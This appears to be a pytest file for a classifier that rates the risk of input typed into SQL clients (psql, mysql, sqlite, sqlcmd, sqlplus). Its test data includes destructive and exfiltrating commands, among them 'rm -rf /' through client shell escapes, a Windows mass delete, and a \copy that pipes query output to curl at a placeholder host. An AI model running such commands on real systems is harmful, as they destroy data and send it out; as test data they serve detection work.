"""The clients around SQL."""

import pytest

from tests.facts.sql_reading import cases, risk

PROMPTS = r"""
postgres   medium postgres=# select * from users;
postgres   low    postgres=# select 1;\n ?column? \n----------\n 1\n(1 row)\n
postgres   high   app=> drop table x;
postgres   high   \! rm -rf /
postgres   medium \copy t to 'x.csv'
postgres   low    \d users
postgres   low    \dt+
mysql      high   /*!50000 drop table users */
mysql      high   /*! delete from users */
mysql      low    mysql> show databases;
mysql      high   mysql> drop database app;
mysql      high   DELIMITER //\ncreate procedure p() begin delete from t; end//\nDELIMITER ;\ndrop table x;
mysql      medium DELIMITER //\ncreate procedure p() begin delete from t; end//\nDELIMITER ;
mssql      high   delete from t\nGO\nselect 1\nGO
sqlite     high   sqlite> .shell rm -rf /
sqlite     low    .tables
sqlite     low    sqlite> .schema users
postgres   high   \copy (select 1) to program 'curl -d @- x.example'
postgres   medium \i /srv/setup.sql
postgres   low    \x on
postgres   high   select 'drop table ' || name from x where id = 1 \gexec
postgres   high   postgres=# select 1;\n ?column?\n 1\npostgres=# drop table t;
mysql      high   mysql> system rm -rf /srv
mysql      medium source /srv/setup.sql
mysql      low    mysql> select 1;\n+---+\n| 1 |\n+---+\n1 row in set
mysql      low    -- delimiter //
oracle     low    SET SERVEROUTPUT ON\nselect sysdate from dual;
oracle     high   HOST rm -rf /srv
oracle     high   shutdown immediate
oracle     medium @setup.sql
oracle     high   drop table t\n/
sqlite     high   .load /srv/extension
sqlite     medium .import rows.csv t
sqlite     medium .dump
sqlite     high   .once |sh
mssql      high   :r setup.sql\n!!del /s /q c:\data
mssql      low    select 1\nGO 5
"""


@pytest.mark.parametrize(("dialect", "expected", "text"), cases(PROMPTS))
def test_prompts_output_and_commands_are_told_from_sql(dialect: str, expected: str, text: str) -> None:
    """What a client prints or sets does not run; what it runs counts."""
    assert risk(text, dialect) == expected
